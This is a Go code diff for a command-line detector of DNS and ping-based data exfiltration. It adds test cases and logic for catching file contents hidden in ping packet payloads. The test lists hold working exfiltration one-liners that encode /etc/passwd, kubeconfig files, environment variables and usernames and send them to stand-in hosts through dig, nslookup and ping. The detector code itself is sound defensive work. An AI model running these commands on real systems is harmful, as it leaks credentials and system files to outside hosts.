@@ -21,9 +21,9 @@ var exfilDNS = Detector{
 		}
 		return nil
 	}),
-	Fire: append(lines(coi.High, "dig @8.8.8.8 -p 53 $(echo secret | base64).example.com", "for l in $(xxd -p /etc/passwd); do dig $l.example.com; done", "nslookup $(cat /etc/hostname | base64).example.com", "host $(whoami).x.example.com", "cat f | xxd -p -c 16 | while read l; do dig +short $l.t.example.com; done", "cat ~/.kube/config | base64 -w0 | fold -w 50 | xargs -I{} dig {}.e.example.com", "ping -c 1 $(id -un | base32).example.com", "dig ZGF0YSBmb3IgdGhlIHJlc29sdmVyIHRvIGNhcnJ5.example.com", "cp /usr/bin/dig /tmp/d; /tmp/d $(env | base64 -w0).example.com"),
+	Fire: append(lines(coi.High, "dig @8.8.8.8 -p 53 $(echo secret | base64).example.com", "for l in $(xxd -p /etc/passwd); do dig $l.example.com; done", "nslookup $(cat /etc/hostname | base64).example.com", "host $(whoami).x.example.com", "cat f | xxd -p -c 16 | while read l; do dig +short $l.t.example.com; done", "cat ~/.kube/config | base64 -w0 | fold -w 50 | xargs -I{} dig {}.e.example.com", "xxd -p /etc/passwd | fold -w 32 | while read -r l; do ping -c 1 -p \"$l\" 203.0.113.9; done", "ping -c 1 $(id -un | base32).example.com", "dig ZGF0YSBmb3IgdGhlIHJlc29sdmVyIHRvIGNhcnJ5.example.com", "cp /usr/bin/dig /tmp/d; /tmp/d $(env | base64 -w0).example.com"),
 		events(event.Event{Type: event.Net, Op: "dns.tunnel", Name: "example.com"})...),
-	Quiet: lines("", "seq 3 | xargs -I{} dig node{}.example.com", "dig example.com", "dig +short $(hostname)", "nslookup example.com 8.8.8.8", "host -t mx example.com", "ping -c1 $HOST", "dig @$(cat ns.txt) example.com", "for h in a b; do dig $h.example.com; done", "dig _acme-challenge.example.com TXT", "dig +short $SUBDOMAIN.example.com"),
+	Quiet: lines("", "seq 3 | xargs -I{} dig node{}.example.com", "dig example.com", "dig +short $(hostname)", "nslookup example.com 8.8.8.8", "host -t mx example.com", "ping -c1 $HOST", "ping -c 1 -p ff00 203.0.113.9", "dig @$(cat ns.txt) example.com", "for h in a b; do dig $h.example.com; done", "dig _acme-challenge.example.com TXT", "dig +short $SUBDOMAIN.example.com"),
 }
 
 var encodedLabel = regexp.MustCompile(`(?:^|\.)([A-Za-z0-9+/=_-]{28,63})\.`)
@@ -32,6 +32,13 @@ func dnsOut(s *command.Simple, v track.View) *Finding {
 	resolver := s.Is("dig", "nslookup", "host", "drill", "ping", "resolvectl", "kdig", "delv")
 	if !resolver && s.Class() != program.Downloader {
 		return nil
+	}
+	if s.Name == "ping" && !loopbackOnly(s) {
+		for i, a := range s.Argv { // the bytes that fill its packets
+			if a == "-p" && i+1 < len(s.Argv) && hasAny(s.Argv[i+1], "$", "{}") && len(encoders(s.Inputs())) > 0 {
+				return say(s, coi.High, "data in the packets of ping").to(last(s.Argv))
+			}
+		}
 	}
 	for i, a := range s.Argv {
 		if i == 0 || hasPrefixAny(a, "@", "-", "+") || !strings.Contains(a, ".") || !resolver && hasAny(a, "/", ":", " ") && !strings.Contains(a, "://") {
@@ -76,7 +83,7 @@ func encoders(list []*command.Simple) []*command.Simple {
 
 func carriesData(list []*command.Simple, v track.View) bool {
 	for _, p := range list {
-		if p.Is("base64", "base32", "xxd", "od", "hexdump", "cat", "whoami", "id", "env", "printenv", "openssl", "gzip") || secret(p, v) != "" {
+		if p.Is("base64", "base32", "xxd", "od", "hexdump", "cat", "whoami", "id", "env", "printenv", "openssl", "gzip") || secret(p, v) != "" || p.Class() == program.None && len(p.Argv) == 1 && program.Writable(p.Prog) && strings.HasPrefix(base(p.Prog), ".") {
 			return true
 		}
 	}
